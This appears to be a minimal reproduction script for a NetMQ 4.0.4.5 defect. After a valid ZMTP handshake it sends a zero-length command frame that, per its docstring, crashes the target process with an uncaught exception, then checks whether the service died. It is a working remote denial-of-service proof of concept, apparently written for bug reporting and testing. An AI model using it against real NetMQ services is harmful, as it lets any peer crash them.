#!/usr/bin/env python3
"""Minimal reproduction: a ZMTP command frame of length 0 kills a NetMQ 4.0.4.5 process.

usage: reproduce.py HOST:PORT [SOCKET-TYPE]

Connects to a NetMQ socket bound on tcp://HOST:PORT, completes a correct ZMTP 3.0 NULL handshake
as SOCKET-TYPE (default REQ: right for a ResponseSocket; use SUB for a Publisher or XPublisher,
PUSH for a PullSocket), then sends the two bytes 04 00: a short command frame (flags 0x04) of
size 0. NetMQ's StreamEngine.ProcessCommandMessage reads the command's name length at index 0 of
the empty frame and throws IndexOutOfRangeException on its I/O thread, which nothing catches: the
process aborts (exit code 134, SIGABRT). libzmq 4.3.4 answers the same bytes by closing the
connection.

Standard library only. Exit status: 0 when the peer process is gone afterwards (the connection is
refused), 1 when it still accepts connections, 2 when the handshake could not be done.
"""
import socket
import struct
import sys
import time


def greeting():
    # signature, version 3.0, mechanism NULL padded to 20 bytes, as-server 0, 31 bytes of filler
    return b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + b"\0" * 31


def ready(socket_type):
    prop = b"\x0bSocket-Type" + struct.pack(">I", len(socket_type)) + socket_type
    body = b"\x05READY" + prop
    return bytes([0x04, len(body)]) + body


def read_exactly(sock, count):
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("the peer closed the connection during the handshake")
        data += chunk
    return data


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__)
    host, port = sys.argv[1].rsplit(":", 1)
    socket_type = (sys.argv[2] if len(sys.argv) == 3 else "REQ").encode()
    try:
        sock = socket.create_connection((host, int(port)), timeout=5)
        sock.sendall(greeting())
        read_exactly(sock, 64)  # the peer's greeting
        sock.sendall(ready(socket_type))
        flags, size = read_exactly(sock, 2)  # the peer's READY command
        read_exactly(sock, size)
    except (OSError, ConnectionError) as error:
        print(f"no handshake: {error}")
        sys.exit(2)
    sock.sendall(b"\x04\x00")  # a command frame of size 0
    print("sent 04 00 after the handshake")
    for _ in range(50):  # up to 5 s for the peer process to die
        time.sleep(0.1)
        try:
            socket.create_connection((host, int(port)), timeout=1).close()
        except ConnectionRefusedError:
            print("the peer process is gone: the defect is present")
            sys.exit(0)
    print("the peer still accepts connections: the defect did not show")
    sys.exit(1)


if __name__ == "__main__":
    main()
